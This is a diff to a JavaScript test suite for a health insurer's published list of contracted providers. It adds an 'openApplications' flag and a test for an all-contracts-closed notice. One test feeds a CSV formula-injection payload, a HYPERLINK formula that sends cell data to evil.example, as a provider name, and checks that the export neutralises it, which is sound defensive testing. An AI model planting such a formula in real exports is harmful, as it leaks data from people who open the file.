@@ -31,7 +31,7 @@ const NOW = Date.parse('2020-11-12T08:00:00Z');
 describe('the contracted-provider list', () => {
   it('states the contract period, how often it is updated, that not all contracts may be closed yet, and when it last changed', async () => {
     const cycle = await zg();
-    const list = buildContractedList({ cycle, entries: [{ agb: '22222222', name: 'Zien & Horen' }, { agb: '11111111', name: 'Auris' }], now: NOW });
+    const list = buildContractedList({ cycle, entries: [{ agb: '22222222', name: 'Zien & Horen' }, { agb: '11111111', name: 'Auris' }], openApplications: true, now: NOW });
     expect(list).toMatchObject({
       contractPeriod: { from: '2024-01-01', to: '2025-12-31', years: 2 },
       notAllContractsClosed: true,
@@ -50,8 +50,16 @@ describe('the contracted-provider list', () => {
     expect(contractedListCsv({ ...list, providers: [{ agb: '1', name: 'A, "B"' }] })).toBe('agb,naam\r\n1,"A, ""B"""\r\n');
   });
 
+  it('says every contract is closed once no application of the cycle is open', async () => {
+    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: 'Adelante' }], openApplications: false, now: NOW });
+    expect(list).toMatchObject({ notAllContractsClosed: false, notice: 'Alle overeenkomsten voor deze contractperiode zijn gesloten.' });
+    const html = contractedListHtml(list);
+    expect(html).not.toContain('Nog niet alle overeenkomsten');
+    expect(html).toContain('Alle overeenkomsten voor deze contractperiode zijn gesloten.');
+  });
+
   it('publishes no live spreadsheet formula in the CSV (a name starting with = + - @ is neutralised)', async () => {
-    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: '=HYPERLINK("http://evil.example/?d="&A3,"Klik hier")' }], now: NOW });
+    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: '=HYPERLINK("http://evil.example/?d="&A3,"Klik hier")' }], openApplications: true, now: NOW });
     const [, row] = contractedListCsv(list).split('\r\n');
     expect(row).toBe(`11111111,"'=HYPERLINK(""http://evil.example/?d=""&A3,""Klik hier"")"`);
   });
@@ -62,12 +70,12 @@ describe('the contracted-provider list', () => {
       const publications = createFilePublicationStore({ dir, baseUrl: 'https://www.zorgverzekeraar.example/gecontracteerd' });
       const cycle = await msr();
       const entries = [{ agb: '11111111', name: 'Adelante' }];
-      const first = await publishContractedList(publications, { cycle, entries, now: NOW });
+      const first = await publishContractedList(publications, { cycle, entries, openApplications: true, now: NOW });
       expect(first.url).toBe('https://www.zorgverzekeraar.example/gecontracteerd/msr-2021/gecontracteerde-zorgaanbieders.html');
-      const same = await publishContractedList(publications, { cycle, entries, now: NOW + 86_400_000 });
+      const same = await publishContractedList(publications, { cycle, entries, openApplications: true, now: NOW + 86_400_000 });
       expect(same.list.lastChanged).toBe(first.list.lastChanged);
       expect(same.list.generatedAt).not.toBe(first.list.generatedAt);
-      const changed = await publishContractedList(publications, { cycle, entries: [...entries, { agb: '22222222', name: 'Basalt' }], now: NOW + 2 * 86_400_000 });
+      const changed = await publishContractedList(publications, { cycle, entries: [...entries, { agb: '22222222', name: 'Basalt' }], openApplications: true, now: NOW + 2 * 86_400_000 });
       expect(changed.list.lastChanged).toBe(changed.list.generatedAt);
       expect(JSON.parse(await readFile(join(dir, 'msr-2021', 'gecontracteerde-zorgaanbieders.json'), 'utf8')).providers).toHaveLength(2);
     } finally {
@@ -132,7 +140,7 @@ describe('publication stores', () => {
     const dir = await mkdtemp(join(tmpdir(), 'inkoop-pub-'));
     dirs.push(dir);
     const store = createFilePublicationStore({ dir, baseUrl: 'http://127.0.0.1:1/' });
-    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: 'Adelante' }], now: NOW });
+    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: 'Adelante' }], openApplications: true, now: NOW });
     await store.put('msr-2021/lijst.html', contractedListHtml(list), 'text/html');
     await store.put('msr-2021/lijst.csv', contractedListCsv(list), 'text/csv');
     const serve = publicationsHandler(dir);
